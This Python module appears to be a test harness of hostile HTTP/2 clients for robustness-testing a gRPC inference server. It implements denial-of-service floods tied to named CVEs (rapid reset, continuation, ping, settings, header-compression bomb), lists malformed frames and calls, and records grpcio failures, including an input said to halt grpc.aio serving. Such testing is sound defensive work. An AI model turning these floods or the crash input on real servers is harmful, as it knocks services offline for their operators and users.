"""What hostile or broken HTTP/2 clients do, each as a function over a server's address.

None is allowed to hurt others; what becomes of the attacker is the server's to choose, within `http2.WAIT_S`. Storms
end by themselves, or when the server hangs up. `WRONG_CONNECTIONS` break the protocol so that the connection cannot go
on; `WRONG_CALLS` spoil one call, and the next on the same connection is served.
"""

import struct
from collections.abc import Callable, Coroutine
from contextlib import suppress
from typing import Any

from simulators.http2 import (
    PREFACE,
    Answer,
    Flag,
    Gone,
    Kind,
    RawConnection,
    Setting,
    call_fields,
    data,
    frame,
    grpc_message,
    reset,
    settings,
    window_update,
)
from simulators.victims import BIG, ECHO, SLOW, message

INFER = "/inference.GRPCInferenceService/ModelInfer"
MAX_MESSAGE_BYTES = 2**24
"""What the server under attack must be told to take at most."""
STORM = 3_000
"""Frames or calls."""
BURST = 100
"""Of them between two looks at whether the server still listens."""
BOMB_BYTES = 4_000
"""Of one header field, kept by the table."""
BIG_FLOATS = 2_500_000
"""Ten megabytes."""
SLOW_READERS = 20

Attack = Callable[[str], Coroutine[Any, Any, None]]


async def rapid_reset(address: str) -> None:
    """Calls that are reset as soon as they are made (CVE-2023-44487)."""
    async with RawConnection(address) as to:
        await storm(to, lambda stream: to.call(stream, INFER, message(SLOW, 30.0)) + reset(stream))


async def reset_before_the_message(address: str) -> None:
    """The same, before the body is there."""
    async with RawConnection(address) as to:
        await storm(to, lambda stream: to.headers(stream, call_fields(INFER)) + reset(stream))


async def calls_reset_by_the_server(address: str) -> None:
    """Calls that the server has to reset, each for a fault of ours (CVE-2025-8671)."""
    async with RawConnection(address) as to:
        await storm(to, lambda stream: to.headers(stream, call_fields(INFER)) + window_update(stream, 0))


async def continuation_flood(address: str) -> None:
    """A header block that never ends (CVE-2024-27316)."""
    async with RawConnection(address) as to:
        to.send(frame(Kind.HEADERS, Flag.NONE, 1, to.block(call_fields(INFER))))
        await storm(to, lambda _: frame(Kind.CONTINUATION, Flag.NONE, 1, to.block([("x", "y" * 1000)])))


async def empty_continuation_flood(address: str) -> None:
    """The same, a header block that does not even grow."""
    async with RawConnection(address) as to:
        to.send(frame(Kind.HEADERS, Flag.NONE, 1, to.block(call_fields(INFER))))
        await storm(to, lambda _: frame(Kind.CONTINUATION, Flag.NONE, 1))


async def settings_flood(address: str) -> None:
    """Settings, whose acknowledgements are never read (CVE-2019-9515)."""
    async with RawConnection(address) as to:
        await storm(to, lambda _: settings({Setting.INITIAL_WINDOW_SIZE: 65_535}) * 10)


async def ping_flood(address: str) -> None:
    """Pings, whose answers are never read (CVE-2019-9512)."""
    async with RawConnection(address) as to:
        await storm(to, lambda stream: frame(Kind.PING, Flag.NONE, 0, struct.pack(">Q", stream)) * 10)


async def empty_data_flood(address: str) -> None:
    """Frames that cost work and bring nothing (CVE-2019-9518)."""
    async with RawConnection(address) as to:
        to.send(to.headers(1, call_fields(INFER)))
        await storm(to, lambda _: frame(Kind.DATA, Flag.NONE, 1) * 10)


async def priority_flood(address: str) -> None:
    """Priorities of streams that there are not (CVE-2019-9513)."""
    async with RawConnection(address) as to:
        await storm(to, lambda stream: frame(Kind.PRIORITY, Flag.NONE, stream, struct.pack(">IB", 0, 1)) * 10)


async def window_of_one_byte(address: str) -> None:
    """Ten megabytes asked for, to be sent byte by byte (CVE-2019-9517)."""
    async with RawConnection(address, window=0) as to:
        to.send(to.call(1, INFER, message(BIG, BIG_FLOATS)))
        await storm(to, lambda _: window_update(1, 1))


async def header_bomb(address: str) -> None:
    """A few bytes that unpack into many megabytes of headers (CVE-2016-6581)."""
    async with RawConnection(address) as to:
        fields = call_fields(INFER)
        to.send(to.headers(1, [*fields, ("x-bomb", "b" * BOMB_BYTES)], end=True))
        indexed = to.block([("x-bomb", "b" * BOMB_BYTES)])
        assert len(indexed) < 4
        await storm(
            to,
            lambda stream: frame(
                Kind.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, stream + 2, to.block(fields) + indexed * 10_000
            ),
        )


async def answers_that_nobody_reads(address: str) -> None:
    """Clients that ask for ten megabytes each and read nothing, though the windows are open."""
    connections = [await RawConnection(address).__aenter__() for _ in range(SLOW_READERS)]
    try:
        for to in connections:
            to.send(to.call(1, INFER, message(BIG, BIG_FLOATS)))
            await to.flush()
        async with RawConnection(address) as honest:
            honest.send(honest.call(1, INFER, message(ECHO)))
            assert (await honest.answer(1)).grpc_status == 0
    finally:
        for to in connections:
            to.abort()


async def calls_that_stay_half_said(address: str) -> None:
    """Connections that are dropped in the middle of a message."""
    for _ in range(BURST):
        async with RawConnection(address) as to:
            to.send(to.headers(1, call_fields(INFER)), data(1, grpc_message(bytes(1000), length=2**20), end=False))
            await to.flush()


async def messages_said_to_be_huge(address: str) -> None:
    """Prefixes that promise as much as may be, on many streams: nothing may be set aside for a promise."""
    async with RawConnection(address) as to:
        await storm(to, lambda stream: half_said(to, stream), STORM // 10)


async def calls_held_open(address: str) -> None:
    """One connection that begins as many calls as it can, and ends none."""
    async with RawConnection(address) as to:
        await storm(to, lambda stream: half_said(to, stream))


def half_said(to: RawConnection, stream: int) -> bytes:
    """A call that has said one byte of a large message."""
    return to.headers(stream, call_fields(INFER)) + data(
        stream, grpc_message(b"x", length=MAX_MESSAGE_BYTES), end=False
    )


async def deadlines_of_a_millisecond(address: str) -> None:
    """Every call with a deadline that cannot be kept."""
    async with RawConnection(address) as to:
        await storm(to, lambda stream: to.call(stream, INFER, message(SLOW, 30.0), grpc_timeout="1m"))


async def calls_without_a_message(address: str) -> None:
    """Calls that end before they have asked for anything."""
    async with RawConnection(address) as to:
        await storm(to, lambda stream: to.headers(stream, call_fields(INFER), end=True))


STORMS: tuple[Attack, ...] = (
    rapid_reset,
    reset_before_the_message,
    calls_reset_by_the_server,
    continuation_flood,
    empty_continuation_flood,
    settings_flood,
    ping_flood,
    empty_data_flood,
    priority_flood,
    window_of_one_byte,
    header_bomb,
    answers_that_nobody_reads,
    calls_that_stay_half_said,
    messages_said_to_be_huge,
    calls_held_open,
    deadlines_of_a_millisecond,
    calls_without_a_message,
)


async def storm(to: RawConnection, make: Callable[[int], bytes], count: int = STORM) -> None:
    """Send what `make` gives for each of `count` new streams, or until the server has hung up."""
    with suppress(Gone):
        for index in range(count):
            to.send(make(2 * index + 1))
            if index % BURST == 0:
                await to.flush()
        await to.flush()


# What breaks a connection: the bytes that are sent after the preface and SETTINGS, by what is wrong.


def opened(stream: int, flags: int = Flag.END_HEADERS) -> bytes:
    return frame(Kind.HEADERS, flags, stream, RawConnection("h:0").block(call_fields(INFER)))


WRONG_CONNECTIONS: dict[str, bytes] = {
    "data on no stream": frame(Kind.DATA, Flag.NONE, 0, b"x"),
    "data on a stream that is not open": frame(Kind.DATA, Flag.NONE, 1, b"x"),
    "a frame larger than allowed": frame(Kind.PING, Flag.NONE, 0, bytes(2**20)),
    "a stream of even number": opened(2),
    "headers on no stream": opened(0),
    "a frame between headers and continuation": opened(1, Flag.NONE) + frame(Kind.PING, Flag.NONE, 0, bytes(8)),
    "a continuation of nothing": frame(Kind.CONTINUATION, Flag.END_HEADERS, 1),
    "an undecodable header block": frame(Kind.HEADERS, Flag.END_HEADERS, 1, b"\xff\xff\xff\xff\xff"),
    "more padding than there is": frame(Kind.HEADERS, Flag.END_HEADERS | Flag.PADDED, 1, b"\xff\x00"),
    "settings of a wrong size": frame(Kind.SETTINGS, Flag.NONE, 0, b"\0" * 5),
    "settings on a stream": frame(Kind.SETTINGS, Flag.NONE, 1),
    "an acknowledgement with a payload": frame(Kind.SETTINGS, Flag.ACK, 0, bytes(6)),
    "a window too large": settings({Setting.INITIAL_WINDOW_SIZE: 2**31}),
    "a frame size too small": settings({Setting.MAX_FRAME_SIZE: 1}),
    "a window that overflows": window_update(0, 2**31 - 1) * 2,
    "a window update of nothing": window_update(0, 0),
    "a ping of a wrong size": frame(Kind.PING, Flag.NONE, 0, b"\0" * 7),
    "a reset of a stream that is not there": reset(1),
    "a reset of a wrong size": opened(1) + frame(Kind.RST_STREAM, Flag.NONE, 1, b"\0"),
    "a push promise": frame(Kind.PUSH_PROMISE, Flag.END_HEADERS, 1, bytes(4)),
}

GARBAGE: dict[str, bytes] = {
    "HTTP/1.1": b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
    "noise": bytes(range(256)) * 40,
    "nearly a preface": PREFACE.replace(b"SM", b"MS") + settings(),
    "no settings": PREFACE + opened(1),
}
"""What is no HTTP/2 from the start."""


# What spoils a call: how it is made on stream 1, and what comes back.


def not_done(answer: Answer) -> bool:
    """Refused in any way that a caller understands."""
    return (
        answer.reset is not None or answer.grpc_status not in {None, 0} or answer.headers.get(":status", "2")[0] in "45"
    )


def echo_call(**changes: str | None) -> Callable[[RawConnection], bytes]:
    return lambda to: to.call(1, INFER, message(ECHO), **changes)


def body(payload: bytes) -> Callable[[RawConnection], bytes]:
    return lambda to: to.headers(1, call_fields(INFER)) + data(1, payload)


WRONG_CALLS: dict[str, Callable[[RawConnection], bytes]] = {
    "wrong content type": echo_call(content_type="text/plain"),
    "no content type": echo_call(content_type=None),
    "unknown method": echo_call(_path="/inference.GRPCInferenceService/NoSuchMethod"),
    "path without a slash": echo_call(_path="ModelInfer"),
    "a path that is no UTF-8": lambda to: (
        to.headers(1, [(name, b"/\xb8" if name == ":path" else value) for name, value in call_fields(INFER)])
        + data(1, grpc_message(message(ECHO)))
    ),
    "no path": echo_call(_path=None),
    "GET": echo_call(_method="GET"),
    "no method": echo_call(_method=None),
    "no scheme": echo_call(_scheme=None),
    "header in upper case": echo_call(Upper="x"),
    "header of HTTP/1": echo_call(connection="close"),
    "a pseudo header that there is not": echo_call(_pseudo="x"),
    "garbage for a deadline": echo_call(grpc_timeout="soon"),
    "a deadline of nine digits": echo_call(grpc_timeout="123456789S"),
    "unknown compression": lambda to: (
        to.headers(1, call_fields(INFER, grpc_encoding="lzma")) + data(1, grpc_message(message(ECHO), compressed=1))
    ),
    "said to be compressed, in no way": body(grpc_message(message(ECHO), compressed=1)),
    "said to be gzip, but is not": lambda to: (
        to.headers(1, call_fields(INFER, grpc_encoding="gzip")) + data(1, grpc_message(message(ECHO), compressed=1))
    ),
    "a flag that there is not": body(grpc_message(message(ECHO), compressed=7)),
    "a prefix that promises more": body(grpc_message(message(ECHO), length=2**20)),
    "a prefix that promises less": body(grpc_message(message(ECHO), length=3)),
    "half a prefix": body(b"\0\0"),
    "no message": lambda to: to.headers(1, call_fields(INFER), end=True),
    "two messages": body(grpc_message(message(ECHO)) * 2),
    "larger than may be": lambda to: (
        to.headers(1, call_fields(INFER)) + data(1, grpc_message(b"x", length=MAX_MESSAGE_BYTES + 1), end=False)
    ),
    "garbage": body(grpc_message(b"\xff" * 1000)),
}


NO_GOODBYE = "core (1.85) passes it over"
NEVER_ENDS = "a call that ends within its message, or without one, is never answered (grpc.aio 1.85)"
TURNED_AWAY = "now and then others' calls are CANCELLED or refused meanwhile (grpc.aio 1.85)"
LENIENT = "core (1.85) answers all the same"
OF_GRPCIO = {
    "calls_without_a_message": f"{NEVER_ENDS}, and others are refused while they are open",
    "header_bomb": f"{NEVER_ENDS}, and others are refused while they are open",
    "rapid_reset": TURNED_AWAY,
    "reset_before_the_message": TURNED_AWAY,
    "calls_reset_by_the_server": TURNED_AWAY,
    "calls_held_open": TURNED_AWAY,
    "deadlines_of_a_millisecond": TURNED_AWAY,
    "data on no stream": NO_GOODBYE,
    "data on a stream that is not open": NO_GOODBYE,
    "a stream of even number": NO_GOODBYE,
    "headers on no stream": NO_GOODBYE,
    "a window that overflows": NO_GOODBYE,
    "a reset of a stream that is not there": NO_GOODBYE,
    "a push promise": NO_GOODBYE,
    "wrong content type": LENIENT,
    "no content type": LENIENT,
    "header of HTTP/1": LENIENT,
    "a deadline of nine digits": LENIENT,
    "two messages": f"{LENIENT}, to the first one",
    "a prefix that promises more": NEVER_ENDS,
    "half a prefix": NEVER_ENDS,
    "a path that is no UTF-8": "one such call, and grpc.aio (1.85) stops serving for good: its main loop raises",
    "many mutated frames": "sooner or later one has a path that is no UTF-8, see there",
    "no message": NEVER_ENDS,
}
KNOWN: dict[str, dict[str, str]] = {"grpcio": OF_GRPCIO}
"""What transports are known to get wrong, by attack or by what is wrong. `grpcio` is gRPC's own server."""
